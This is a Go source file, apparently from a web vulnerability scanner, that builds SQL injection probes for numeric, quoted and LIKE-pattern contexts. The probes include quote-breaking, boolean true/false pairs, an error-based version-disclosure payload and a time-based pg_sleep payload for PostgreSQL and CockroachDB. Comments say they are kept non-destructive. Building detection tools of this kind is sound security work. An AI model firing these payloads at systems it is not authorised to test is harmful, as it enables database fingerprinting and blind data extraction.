package sqli

import (
	"fmt"
	"strconv"
)

// A value reaches SQL text in one of a few contexts, and each probe has to
// be written for its context so that the statement stays valid exactly when
// the probe means it to:
//
//	numeric   WHERE id = 42
//	quoted    WHERE name = 'lamp'
//	like      WHERE name ILIKE '%lamp%'     (the value inside a pattern)
//
// Payloads never use OR, never comment out the rest of the statement and
// never stack statements: a true condition selects what the baseline
// selects, a false one selects less, so a probe can never widen an UPDATE
// or a DELETE the value also happens to reach.
type sqlContext int

const (
	ctxNumeric sqlContext = iota
	ctxQuoted
	ctxLike
)

func (c sqlContext) String() string {
	switch c {
	case ctxNumeric:
		return "numeric"
	case ctxQuoted:
		return "quoted string"
	case ctxLike:
		return "LIKE pattern"
	}
	return fmt.Sprintf("context(%d)", int(c))
}

// contextsFor lists the contexts worth trying for a point, most likely
// first: a number may be used as a number or quoted; a string is quoted,
// or part of a pattern.
func contextsFor(pt *point) []sqlContext {
	if pt.Numeric {
		return []sqlContext{ctxNumeric, ctxQuoted}
	}
	return []sqlContext{ctxQuoted, ctxLike}
}

// brk closes the value's quoting: a parameterised query treats it as data,
// string-built SQL fails to parse (or, when the value appears twice, to
// type-check). It breaks numeric and quoted contexts alike.
func brk(v string) string { return v + "'" }

// repaired is the broken probe made valid again in the context, with the
// same meaning as the value: `v'||'` is 'v' concatenated with ” in a
// quoted context, `v-0` is v in a numeric one. An application that puts
// the value in SQL answers it like the baseline; one that does not treats
// it like the broken probe.
func repaired(c sqlContext, v string) string {
	if c == ctxNumeric {
		return v + "-0"
	}
	return v + "'||'"
}

// versionProbe is valid SQL whose evaluation fails on both engines with
// the engine's banner in the message: PostgreSQL says `invalid input syntax
// for type integer: "PostgreSQL 16.2 …"`, CockroachDB `could not parse
// "CockroachDB CCL v23.2.3 …" as type int`. The error proves the database
// evaluated the expression and names the engine and version.
func versionProbe(c sqlContext, v string) string {
	if c == ctxNumeric {
		return v + "+CAST(version() AS INT)"
	}
	return v + "'||CAST(version() AS INT)||'"
}

// boolPair returns a true and a false condition in the context. The
// constants are fixed so that findings and evidence are reproducible.
func boolPair(c sqlContext, v string) (t, f string) {
	switch c {
	case ctxNumeric:
		return v + " AND 3917=3917", v + " AND 3917=3918"
	case ctxLike:
		// The pattern's closing `%'` completes the right-hand literal.
		return v + "%' AND 'rMp%'='rMp", v + "%' AND 'rMp%'='rMq"
	default:
		return v + "' AND 'rMp'='rMp", v + "' AND 'rMp'='rMq"
	}
}

// sleepProbe makes the database wait d seconds while it evaluates the
// value. pg_sleep returns void on PostgreSQL and a boolean on CockroachDB;
// cast to text it is ” or 'true' on either, so one form serves both. The
// call sits in an uncorrelated scalar subquery, which both engines
// evaluate once per statement (not once per row), so the delay does not
// grow with the table. In a numeric context the text is reduced to 0.
func sleepProbe(c sqlContext, v string, d float64) string {
	s := "(SELECT CAST(pg_sleep(" + strconv.FormatFloat(d, 'f', -1, 64) + ") AS TEXT))"
	if c == ctxNumeric {
		return v + "+0*length(" + s + ")"
	}
	return v + "'||" + s + "||'"
}
